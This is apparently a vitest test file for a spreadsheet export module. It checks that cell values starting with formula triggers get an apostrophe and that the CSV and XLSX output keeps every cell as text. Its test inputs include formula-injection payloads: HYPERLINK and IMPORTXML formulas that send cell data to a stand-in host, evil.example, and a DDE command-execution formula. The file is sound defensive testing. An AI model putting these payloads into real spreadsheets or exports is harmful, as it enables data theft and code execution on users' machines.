import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { CSV_MARK, csvRow } from './csv.ts';
import { neutralise, unneutralise } from './neutralise.ts';
import type { Table } from './table.ts';
import { toXlsx } from './xlsx.ts';

const NASTY = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '=',
  '+91 98200 12345',
  '+1+1',
  '-2009',
  '-1+1',
  '- a note that begins with a dash',
  '@SUM(1+1)',
  '@handle',
  '\t=1+1',
  '\tplain words behind a tab',
  '\r=1+1',
  '\n=1+1',
  '\r\nplain',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '−1',
  ' =1+1',
  '   +1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '"=1+1"',
  "'=1+1",
  "''+1",
  '“=1+1”',
  "' =1+1",
  '\u202E=1+1',
  ' \u2060"＝1+1',
] as const;

const PLAIN = [
  '',
  'Ojasvi Barde',
  'ओजस्वी बर्डे',
  "'Til Monday",
  '"Quoted" words',
  'a = b',
  '5-6',
  '2026-12-08..2026-12-13 (booked)',
  'me@example.com',
  '1,20,000',
  '  spaces before',
  '– a long dash',
  '₹40,000',
  '(+91)',
] as const;

describe('neutralising', () => {
  test.each(NASTY)('puts an apostrophe before %j, and takes only that off again', (text) => {
    expect(neutralise(text)).toBe(`'${text}`);
    expect(unneutralise(neutralise(text))).toBe(text);
  });

  test.each(PLAIN)('leaves %j as it is, there and back', (text) => {
    expect(neutralise(text)).toBe(text);
    expect(unneutralise(text)).toBe(text);
  });

  test('numbers stay numbers, also below zero', () => {
    expect(csvRow([-5, 0, -0.5, 12])).toBe('-5,0,-0.5,12\r\n');
  });
});

describe('in a file', () => {
  const table: Table = {
    name: 'Cells',
    columns: [{ header: 'Cell', width: 20 }],
    rows: NASTY.map((text) => [text]),
    frozenColumns: 1,
  };

  test('a CSV reader finds one row for each cell, none of which begins with a sign', () => {
    const text = CSV_MARK + NASTY.map((cell) => csvRow([cell, 'next'])).join('');
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows).toEqual(NASTY.map((cell) => [`'${cell}`, 'next']));
  });

  test('separators, quotes and line breaks inside a cell stay inside it', () => {
    const odd = ['a,b', 'a;b', 'a\tb', 'a|b', 'say "hello"', 'two\r\nlines', ' padded ', '","=1+1,"'];
    expect(parse(csvRow(odd))).toEqual([odd]);
    expect(parse(csvRow(['first', 'a;=1+1', 'last']))).toHaveLength(1);
  });

  test('a workbook holds every cell as text, none as a formula', async () => {
    const file = await toXlsx(table);
    const read = await readSheet(Buffer.from(file), { trim: false });
    // XML has no place for control characters; they are dropped.
    const kept = (text: string) => text.replaceAll('\u0000', '');
    // A formula has no value until a spreadsheet has run it: it would be read as nothing.
    expect(read.slice(1).map(([cell]) => cell)).toEqual(NASTY.map(kept));
  });

  test('text that a workbook or its writer would read in another way comes back as it was', async () => {
    const odd = ['constructor', '__proto__', 'toString', '_x0041_', 'a_x000D_b', 'a\rb', 'x'.repeat(40_000)];
    const file = await toXlsx({ ...table, rows: odd.map((text) => [text]) });
    const read = (await readSheet(Buffer.from(file), { trim: false })).slice(1).map(([cell]) => cell);
    expect(read.slice(0, -1)).toEqual(odd.slice(0, -1));
    expect(read.at(-1)).toBe(`${'x'.repeat(32_766)}…`);
  });
});
